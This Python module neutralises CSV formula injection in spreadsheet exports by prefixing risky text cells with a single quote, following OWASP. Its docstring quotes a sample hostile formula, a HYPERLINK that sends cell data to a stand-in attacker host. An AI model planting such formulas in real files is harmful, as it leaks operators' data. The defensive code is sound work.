"""CSV files that are safe to open in a spreadsheet (OWASP "CSV injection").

Exports carry text that clients and operators typed (beneficiary ids, references, descriptions,
reasons). A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and a
leading tab or carriage return can hide one), so `=HYPERLINK("https://evil.example/?"&A1)` in a
description would run on the operator's machine. Following OWASP, such a text cell is written
with a single quote in front (`'=HYPERLINK(...)`), which spreadsheets show as text; the csv module
already quotes cells that contain the separator or quotes.

Numbers stay numbers: an `int` or `Decimal` cell (an amount such as -500 in minor units) is
written as it is, because a number cannot hold a formula and a bank file or a sum needs the value.
Only text is neutralised, including text that looks like a negative number ("-500" typed as a
beneficiary id becomes "'-500").

Use `writer(f)` wherever `csv.writer(f)` was used.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

# OWASP: = + - @, tab (0x09) and carriage return (0x0D).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBERS = (int, float, Decimal)


def neutralise(value: Any) -> Any:
    """The cell as it is safe to write: numbers, dates and empty values unchanged, text starting
    with a formula character prefixed with a single quote."""
    if value is None or isinstance(value, bool | date | datetime | time):
        return value
    if isinstance(value, _NUMBERS):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_START) else text


class SafeWriter:
    """A csv writer whose rows are neutralised cell by cell."""

    def __init__(self, f: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(f, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: Any, **kwargs: Any) -> SafeWriter:
    """`csv.writer(f, **kwargs)` that neutralises formula cells."""
    return SafeWriter(f, **kwargs)
